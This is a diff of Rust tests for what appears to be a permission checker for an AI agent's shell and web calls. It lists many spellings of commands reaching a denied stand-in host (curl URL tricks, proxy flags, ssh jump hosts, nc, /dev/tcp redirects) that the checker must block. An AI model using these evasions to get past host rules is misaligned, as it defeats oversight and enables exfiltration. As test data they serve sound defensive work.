@@ -219,6 +219,7 @@ fn git_that_configures_a_repository_asks_and_runs_outside() {
         ("$ cd sub && git branch --set-upstream-to=o/x", true),
         ("$ git push -u o x", true),
         ("$ env git --no-pager submodule sync", true),
+        ("$ git clone h.example:x/y", true),
         ("$ git remote -v", false),
         ("$ git config --get user.name", false),
         ("$ git config user.name", false),
@@ -357,6 +358,81 @@ fn what_git_is_given_to_keep_or_to_show_is_held_against_rules_for_reading() {
     ] {
         let verdict = judge(Mode::Execute, &given, &[], call);
         assert_eq!(verdict.decision, Decision::Allow, "{call}: {}", verdict.reason);
+    }
+}
+
+/// A rule that denies a host sees it however it is written, or that it cannot be seen.
+#[test]
+fn a_denied_host_is_denied_in_every_spelling() {
+    let given = rules(
+        "allow Web(*); deny Web(evil.example); allow Shell(git *); allow Shell(ssh *); allow Shell(rsync *); \
+         allow Shell(curl *)",
+    );
+    for call in [
+        "$ curl http:/evil.example/",
+        "$ curl http:///evil.example/",
+        "$ curl HTTP:/evil.example",
+        "$ curl 'http://good.example\\@evil.example/'",
+        "$ curl 'http://good.example;@evil.example/'",
+        "$ curl '{good.example,evil.example}'",
+        "$ curl -s https://good.example evil.example",
+        "$ curl --compressed https://good.example evil.example/x",
+        "$ curl https://good.example --compressed evil.example",
+        "$ curl --compressed -b jar https://good.example http:/evil.example",
+        "$ curl -sxevil.example:80 https://good.example",
+        "$ curl --prox evil.example:80 https://good.example",
+        "$ wget http:/evil.example",
+        "$ git clone evil.example:x/y",
+        "$ git clone -q me@evil.example:x/y z",
+        "$ git fetch evil.example:x HEAD:y",
+        "$ git push -o a evil.example:x HEAD:y",
+        "$ git push --repo=evil.example:x",
+        "$ git ls-remote -q evil.example:x",
+        "$ git submodule add evil.example:x y",
+        "$ git remote add -tf -f o evil.example:x",
+        "$ rsync README evil.example:x",
+        "$ rsync README evil.example::x",
+        "$ scp README evil.example:x",
+        "$ scp a:b c:d evil.example:x",
+        "$ sftp -P 22 evil.example",
+        "$ ssh -p 22 evil.example id",
+        "$ ssh -qp22 me@evil.example id",
+        "$ ssh -4 -i key -- evil.example id",
+        "$ ssh -o HostName=evil.example good.example",
+        "$ ssh -J evil.example good.example",
+        "$ ssh -p '22' evil.example:22",
+        "$ nc -w 5 evil.example 80",
+        "$ dig -t txt x.evil.example @evil.example",
+        "$ ping -c 1 evil.example",
+        "$ cat < /dev/tcp/evil.example/80",
+        "$ echo x > /dev/udp/evil.example/53",
+        r#"$ echo x > "/dev/tcp/$H/80""#,
+        "$ exec 3<>/dev/tcp/evil.example/80",
+    ] {
+        for mode in [Mode::Execute, Mode::Bypass] {
+            let verdict = judge(mode, &given, &[], call);
+            assert_eq!(verdict.decision, Decision::Deny, "{call} {}: {}", mode.word(), verdict.reason);
+        }
+    }
+    for call in [
+        "$ curl -s http://good.example:8080/a?b=evil.example",
+        "$ curl --compressed -b evil.example https://good.example",
+        "$ git clone good.example:evil.example",
+        "$ git push origin HEAD:evil.example",
+        "$ git push -o evil.example:x origin HEAD",
+        "$ git remote add o evil.example:x",
+        "$ git archive HEAD:evil.example",
+        "$ rsync README good.example:evil.example",
+        "$ ssh good.example ping evil.example",
+        "$ ssh -o StrictHostKeyChecking=no -i evil.example good.example",
+    ] {
+        let verdict = judge(Mode::Bypass, &given, &[], call);
+        assert_eq!(verdict.decision, Decision::Allow, "{call}: {}", verdict.reason);
+    }
+    // By a rule for the program alone, the host asks.
+    for call in ["$ git clone good.example:x/y", "$ rsync README good.example:x"] {
+        let by_name = rules("allow Shell(git *); allow Shell(rsync *)");
+        assert_eq!(judge(Mode::Execute, &by_name, &[], call).decision, Decision::Ask, "{call}");
     }
 }
 
